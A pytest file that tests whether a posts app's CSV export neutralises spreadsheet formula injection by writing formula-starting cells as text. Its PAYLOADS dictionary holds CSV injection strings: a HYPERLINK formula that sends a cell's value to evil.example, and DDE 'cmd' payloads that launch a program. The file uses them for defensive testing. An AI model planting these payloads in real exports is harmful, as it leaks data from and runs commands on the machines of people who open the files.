"""The Browse page's CSV download: posts that start a formula reach a spreadsheet as text.

The store is built by the real ingest from an export whose cells are the usual CSV
injection payloads; the CSV is what clicking "Download CSV" on ``/posts`` produces.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pyarrow as pa
import pytest

from lib.ingest import run_ingest
from lib.spreadsheet import inert_cell, spreadsheet_csv
from tests.helpers import open_app

# Each starts a formula in Excel, LibreOffice or Google Sheets.
PAYLOADS = {
    "link": '=HYPERLINK("https://evil.example/?"&B2,"Read more")',
    "command": "+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "spaced": "  =1+1",
}


def _rows(data: bytes) -> list[dict[str, str]]:
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.DictReader(io.StringIO(data[3:].decode("utf-8"))))


def test_the_browse_csv_writes_formula_cells_as_text(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path, downloads: dict[str, Callable[[], Any]]
) -> None:
    export = tmp_path / "hostile.csv"
    with export.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["title", "excerpt", "category", "tags"])
        for name, payload in PAYLOADS.items():
            writer.writerow([payload, f"the {name} payload", payload, f"{payload};plain"])
    db = str(tmp_path / "posts.duckdb")
    run_ingest(db, [str(export)])

    open_app(monkeypatch, db, page="pages/posts.py")
    rows = _rows(downloads["posts.csv"]())
    assert len(rows) == len(PAYLOADS)
    for row in rows:
        for column in ("title", "category"):
            assert row[column].startswith("'"), row[column]
        assert row["tags"].startswith("'") and row["tags"].endswith("; plain"), row["tags"]
    shown = {row["title"].removeprefix("'") for row in rows}
    assert shown == {p.strip() for p in PAYLOADS.values()}  # the text itself is kept


@pytest.mark.parametrize(
    "text", ["Attention is all you need", "中文标题", "a = b", "C++ tips", "x@y.z", "", None]
)
def test_text_that_starts_no_formula_is_written_as_it_is(text: str | None) -> None:
    assert inert_cell(text) == text


def test_numbers_dates_and_empty_tag_lists_are_left_alone() -> None:
    table = pa.table({"n": [1, -2], "tags": [["a", "=b"], []], "title": ["-1 tips", "ok"]})
    assert _rows(spreadsheet_csv(table)) == [
        {"n": "1", "tags": "a; =b", "title": "'-1 tips"},
        {"n": "-2", "tags": "", "title": "ok"},
    ]
